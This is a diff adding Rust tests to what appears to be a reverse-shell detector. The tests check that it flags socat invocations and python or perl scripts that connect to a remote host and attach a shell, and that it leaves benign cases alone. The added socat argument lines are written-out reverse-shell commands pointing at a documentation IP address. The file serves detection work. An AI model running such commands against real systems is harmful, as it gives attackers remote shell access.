@@ -63,6 +63,25 @@ fn relays_by_what_they_are_told() {
 }
 
 #[test]
+fn a_shell_at_the_other_end_of_socat_is_a_reverse_shell() {
+    for args in [
+        &["socat", "TCP:203.0.113.9:443", "EXEC:bash -li,pty,stderr,setsid"][..],
+        &["socat", "exec:/bin/sh", "openssl:203.0.113.9:443,verify=0"],
+        &["socat", "-d", "UDP4:203.0.113.9:53", "SYSTEM:id; sh"],
+    ] {
+        assert_eq!(executed("/usr/bin/socat", args), ["reverse_shell"], "{args:?}");
+    }
+    for args in [
+        &["socat", "TCP:203.0.113.9:443", "EXEC:/usr/bin/backup"][..],
+        &["socat", "TCP:localhost:443", "EXEC:sh"],
+        &["socat", "UNIX-CONNECT:/run/a.sock", "EXEC:bash"],
+        &["socat", "-", "TCP:203.0.113.9:443"],
+    ] {
+        assert!(executed("/usr/bin/socat", args).is_empty(), "{args:?}");
+    }
+}
+
+#[test]
 fn tunnels_however_the_options_are_joined() {
     for args in [
         &[
@@ -233,6 +252,32 @@ fn a_shell_behind_a_pipe_and_a_connection_are_a_reverse_shell() {
             }
         }
     }
+}
+
+#[test]
+fn a_shell_that_a_connected_script_executes_is_a_reverse_shell() {
+    let executes = |script: &str, peer: &str, shell: &[&str]| {
+        let mut scene = scene("acme/app", script);
+        scene.exe = Process {
+            exec_id: ExecId(1),
+            host_pid: 5000,
+            ..process(script)
+        };
+        scene.inspect(connect(peer, 443));
+        scene.now_ns += SECOND;
+        part(&mut scene, ("/bin/dash", 10), shell);
+        let exec = scene.exec();
+        of_class(&mut scene, Payload::Exec(exec))
+    };
+    let told = |script, peer, shell| executes(script, peer, shell) == ["reverse_shell"];
+    assert!(told("/usr/bin/python3.11", "203.0.113.9", &["/bin/sh"]));
+    assert!(told("/usr/bin/perl", "203.0.113.9", &["bash", "-i"]));
+    assert!(!told("/usr/bin/python3", "203.0.113.9", &["sh", "-c", "id"]));
+    assert!(!told("/usr/bin/python3", "127.0.0.1", &["sh"]));
+    assert!(
+        !told("/usr/bin/ssh", "203.0.113.9", &["sh"]),
+        "a session elsewhere"
+    );
 }
 
 #[test]
